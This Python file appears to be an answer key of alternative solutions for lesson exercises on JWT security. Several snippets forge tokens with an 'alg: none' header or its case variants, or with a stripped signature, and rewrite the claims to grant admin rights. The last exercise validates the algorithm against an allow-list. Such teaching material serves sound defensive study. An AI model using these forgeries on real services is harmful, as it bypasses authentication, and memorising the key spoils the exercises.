"""Right answers to the exercises of lesson 10 that are not our own."""

from __future__ import annotations

_CLAIMS = "claims = dict(jwtlab.decode(mine).claims)\nclaims.update(sub='admin', admin=True)\n"
_BY_HAND = (
    "import base64\n"
    + _CLAIMS
    + "def b64(value):\n"
    + "    return base64.urlsafe_b64encode(json.dumps(value, separators=(',', ':')).encode()).decode().rstrip('=')\n"
)
_EDITED = (
    "text = base64url.decode(mine.split('.')[1]).decode()\n"
    "said = json.loads(text)\nsaid['sub'] = 'admin'\nsaid['admin'] = True\n"
    "payload = base64url.encode(json.dumps(said, indent=2).encode())\n"
)

OTHERS: dict[str, list[str]] = {
    "10.1": [
        "import jwt\n" + _CLAIMS + "answer = jwt.encode(claims, None, algorithm='none')",
        _BY_HAND + "answer = f\"{b64({'typ': 'JWT', 'alg': 'none'})}.{b64(claims)}.\"",
        _EDITED + "answer = base64url.encode(b'{\"alg\":\"none\"}') + '.' + payload + '.'",
    ],
    "10.2": [
        _BY_HAND + "answer = '.'.join([b64({'alg': 'NONE'}), b64(claims), ''])",
        _EDITED + 'answer = base64url.encode(b\'{"alg": "None", "typ": "JWT"}\') + \'.\' + payload + \'.\'',
        "import jwt\n"
        + _CLAIMS
        + "whole = jwt.encode(claims, None, algorithm='none', headers={'typ': 'JWT'})\n"
        "answer = base64url.encode(json.dumps({'alg': 'noNE'}).encode()) + whole[whole.index('.'):]",
    ],
    "10.3": [
        _EDITED + "head, _, _ = mine.split('.')\nanswer = '.'.join((head, payload, ''))",
        _BY_HAND + "answer = b64({'alg': 'ES256'}) + '.' + b64(claims) + '.'",
        "import re\n" + _EDITED + "answer = re.sub(r'\\.[^.]*\\.[^.]*$', lambda _: f'.{payload}.', mine)",
    ],
    "10.4": [
        "def answer(header, allowed):\n"
        "    try:\n        alg = header['alg']\n    except KeyError:\n        return False\n"
        "    return type(alg) is str and any(alg == name for name in allowed)",
        "def answer(header, allowed):\n"
        "    match header:\n"
        "        case {'alg': str(alg)}:\n            return alg in list(allowed)\n"
        "    return False",
        "answer = lambda header, allowed: header.get('alg') in [*allowed] and isinstance(header.get('alg'), str)",
    ],
}
